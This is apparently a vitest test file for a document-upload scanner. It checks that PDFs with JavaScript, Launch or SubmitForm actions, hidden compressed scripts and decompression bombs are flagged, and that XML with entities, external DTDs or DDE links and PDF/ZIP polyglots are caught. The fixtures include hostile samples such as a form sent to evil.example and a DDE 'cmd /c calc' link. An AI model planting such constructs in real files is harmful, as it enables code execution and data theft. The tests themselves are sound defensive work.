// Documents that run something when they are opened, however it is written.

import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { contractExample } from '#packages/pdf/document.example.ts';
import { renderPdf } from '#packages/pdf/render.ts';
import {
  type Finding,
  isActivePart,
  isAlsoPdf,
  isAlsoZip,
  searchMarkup,
  searchPdf,
} from './activeContent.ts';

const object = (content: string) => `%PDF-1.7\n1 0 obj\n${content}\nendobj\n%%EOF\n`;
const stream = (head: string, body: Buffer) =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n<<${head}/Length ${body.length}>>\nstream\n`),
    body,
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ]);
const objects = (content: string) => deflateSync(Buffer.from(`7 0 8 40 ${content}`));
const ACTION = '<</S/JavaScript/JS(app.alert(1))>>';

describe('a PDF is refused', () => {
  it.each<[string, Buffer | string]>([
    ['with a script', object(`<</OpenAction${ACTION}>>`)],
    ['with a script whose name is escaped', object('<</S/Java#53cript/JS(1)>>')],
    ['with scripts by name', object('<</Names<</JavaScript 5 0 R>>>>')],
    ['that starts a program', object('<</S/Launch/F(cmd.exe)>>')],
    ['that sends its form away', object('<</S /SubmitForm /F (https://evil.example)>>')],
    ['with a form that runs', object('<</AcroForm<</XFA 5 0 R>>>>')],
    ['with a film that runs', object('<</Subtype/RichMedia>>')],
    [
      'with a script among packed objects',
      stream('/Type/ObjStm/N 2/First 9/Filter/FlateDecode', objects(ACTION)),
    ],
    ['with a script among packed objects that do not say so', stream('/Filter/FlateDecode', objects(ACTION))],
    ['with a script in a picture that is none', stream('/Subtype/Image/Filter/FlateDecode', objects(ACTION))],
    [
      'with a script after a remark among packed objects',
      stream('/Filter/FlateDecode', deflateSync(Buffer.from(`% 7 0\n${ACTION}`))),
    ],
    [
      'with an escaped script among packed objects',
      stream('/Filter/FlateDecode', objects('<</S/#4AavaScript>>')),
    ],
    ['with a script at the end of packed objects', stream('/Filter/FlateDecode', objects('/JavaScript'))],
    [
      'with a script in a stream whose keyword is followed by spaces',
      Buffer.from(
        stream('/Filter/FlateDecode', objects(ACTION)).toString('latin1').replace('stream\n', 'stream \r'),
        'latin1',
      ),
    ],
  ])('%s', async (_what, content) => {
    expect(await searchPdf(Buffer.from(content))).toBe('active');
  });
});

describe('a PDF cannot be searched', () => {
  it.each<[string, Buffer | string]>([
    ['with objects packed otherwise', stream('/Type/ObjStm/N 2/First 9/Filter/LZWDecode', Buffer.from('x'))],
    [
      'with objects packed twice',
      stream('/N 2/First 9/Filter[/ASCIIHexDecode/FlateDecode]', Buffer.from('789c')),
    ],
    ['with objects that unpack to 40 MB', stream('/Filter/FlateDecode', objects(' '.repeat(40_000_000)))],
    ['with more streams than a reader opens', object('stream\n'.repeat(20_001))],
    [
      'with objects whose kind stands far before them',
      stream(`/Type/ObjStm${' '.repeat(3_000)}/Filter/LZWDecode`, Buffer.from('x')),
    ],
    [
      'that is encrypted, with its objects',
      `${object('<</Encrypt 9 0 R>>')}${stream('/Type/ObjStm/N 2/First 9', Buffer.from('x')).toString('latin1')}`,
    ],
  ])('%s', async (_what, content) => {
    expect(await searchPdf(Buffer.from(content))).toBe('unsearchable');
  });
});

describe('a PDF is taken', () => {
  it.each<[string, Buffer | string]>([
    ['that opens at a page', object('<</OpenAction[3 0 R/Fit]>>')],
    ['with links', object('<</S/URI/URI(https://coal.example)>>')],
    ['with data attached, as electronic invoices have', object('<</Type/EmbeddedFile/Subtype/text#2Fxml>>')],
    ['with words that begin alike', object('(JavaScript) /JavaScripts /XFAx')],
    ['with packed objects', stream('/Type/ObjStm/N 2/First 9/Filter/FlateDecode', objects('<</Type/Page>>'))],
    ['with a packed drawing', stream('/Filter/FlateDecode', deflateSync(Buffer.from('1 0 0 1 0 0 cm')))],
    ['with a picture', stream('/Subtype/Image/Filter/DCTDecode', Buffer.from([0xff, 0xd8, 0xff]))],
    ['that is encrypted, with its objects in the clear', object('<</Encrypt 9 0 R>>')],
  ])('%s', async (_what, content) => {
    expect(await searchPdf(Buffer.from(content))).toBe('fine');
  });
});

it('a paper of the platform is taken when it is uploaded again', async () => {
  expect(await searchPdf(Buffer.from(await renderPdf(contractExample, 'mine')))).toBe('fine');
});

it.each([
  ['xl/vbaProject.bin', true],
  ['XL/VBAPROJECT.BIN', true],
  ['xl/macrosheets/sheet1.xml', true],
  ['xl/activeX/activeX1.xml', true],
  ['xl/embeddings/oleObject1.bin', true],
  ['xl/embeddings/report.xlsm', true],
  ['xl/embeddings/a.xlsx.lnk', true],
  ['xl/embeddings/', false],
  ['customUI/customUI.xml', true],
  ['xl/embeddings/Microsoft_Excel_Sheet1.xlsx', false],
  ['xl/worksheets/sheet1.xml', false],
  ['xl/media/image1.png', false],
])('the part %s runs: %s', (name, isActive) => {
  expect(isActivePart(name)).toBe(isActive);
});

it.each<[string, Buffer | string, Finding]>([
  ['plain', '<?xml version="1.0" encoding="UTF-8"?><sst>煤</sst>', 'fine'],
  ['marked as UTF-8', '\ufeff<?xml version="1.0"?><sst/>', 'fine'],
  ['in the Chinese encoding', '<?xml version="1.0" encoding="GB18030"?><ofd/>', 'fine'],
  ['with entities', '<!DOCTYPE x [<!ENTITY a "b">]><sst>&a;</sst>', 'active'],
  ['with a foreign definition', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><sst/>', 'active'],
  [
    'that starts programs',
    '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    'active',
  ],
  ['with linked objects', '<x:oleLink progId="Package"/>', 'active'],
  ['in 16 bits', Buffer.from('\ufeff<!DOCTYPE x><a/>', 'utf16le'), 'unsearchable'],
  ['in 7 bits', '<?xml version="1.0" encoding="UTF-7"?>+ADw-', 'unsearchable'],
])('markup %s is %s', (_what, content, finding) => {
  expect(searchMarkup(Buffer.from(content))).toBe(finding);
});

it.each<[string, Buffer, boolean]>([
  ['ends as an archive', Buffer.from(`PK\x05\x06${'\0'.repeat(18)}`), true],
  ['ends as an archive with a remark', Buffer.from(`PK\x05\x06${'\0'.repeat(16)}\x07\0\n%%EOF\n`), true],
  [
    'ends as an archive with less of a remark',
    Buffer.from(`PK\x05\x06${'\0'.repeat(16)}\xff\0\n%%EOF\n`, 'latin1'),
    true,
  ],
  ['holds an archive somewhere', Buffer.from(`PK\x05\x06${'\0'.repeat(18)}endstream\n%%EOF\n`), false],
  ['ends within the sign of one', Buffer.from('PK\x05\x06'), false],
  ['is short', Buffer.from(''), false],
])('a file that %s is an archive too: %s', (_what, tail, isZip) => {
  expect(isAlsoZip(tail)).toBe(isZip);
});

it.each([
  ['begins as a document', `${' '.repeat(1_024)}%PDF-1.7`, true],
  ['holds a document', `${' '.repeat(1_025)}%PDF-1.7`, false],
  ['is short', 'PK', false],
])('an archive that %s is one too', (_what, content, isPdf) => {
  expect(isAlsoPdf(Buffer.from(content))).toBe(isPdf);
});
